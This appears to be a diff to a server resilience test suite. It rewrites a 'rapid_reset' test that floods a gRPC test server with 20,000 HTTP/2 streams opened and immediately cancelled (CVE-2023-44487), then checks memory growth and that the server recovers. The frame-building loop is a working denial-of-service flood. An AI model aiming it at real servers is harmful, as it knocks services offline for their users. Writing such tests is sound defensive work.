@@ -15,6 +15,7 @@ FLOOD_SECONDS = 3
 MOST_MIB = 128
 HEADER_MIB = 64
 MOST_UNACKNOWLEDGED = 2_000
+RESETS, MOST_RESET_KIB = 20_000, 24
 
 
 def flood(world: World, make, clients: int = 2, reads: bool = True) -> str:
@@ -58,16 +59,29 @@ def _drain(client: socket.socket) -> None:
 
 
 def rapid_reset(world: World) -> str:
-    def make(client: Connection) -> tuple[bytes, int]:
-        block = client.request_headers(LIST)
-        out = b""
-        for _ in range(100):
-            stream = client.new_stream()
-            out += frame(http2.HEADERS, http2.END_HEADERS, stream, block)
-            out += frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL))
-        return out, 200
-
-    return flood(world, make)
+    """gRPC 1.51 does not count streams that were reset (CVE-2023-44487), and makes a call of
+    each: only a proxy before it bounds that. What holds: the server lives, and is idle and
+    serves others once the flood is over."""
+    server, sent = world.server, 0
+    with growth(server, RESETS * MOST_RESET_KIB / 1024) as grown:
+        with contextlib.suppress(OSError), Connection(server.address) as client:
+            client.read(5)
+            block = client.request_headers(LIST)
+            while sent < RESETS:
+                out = b""
+                for _ in range(100):
+                    stream = client.new_stream()
+                    out += frame(http2.HEADERS, http2.END_HEADERS, stream, block)
+                    out += frame(http2.RST_STREAM, 0, stream,
+                                 struct.pack(">I", http2.CANCEL))
+                client.send(out, 15)
+                sent += 100
+                _drain(client.socket)
+        took = still_serves(server, 20)
+    settles(server)
+    still_serves(server)
+    return (f"known limit of gRPC 1.51: {sent:,} streams, memory grew by {grown['mib']:.0f} "
+            f"MiB; others served in {took:.2f} s; idle afterwards")
 
 
 def continuation(world: World) -> str:
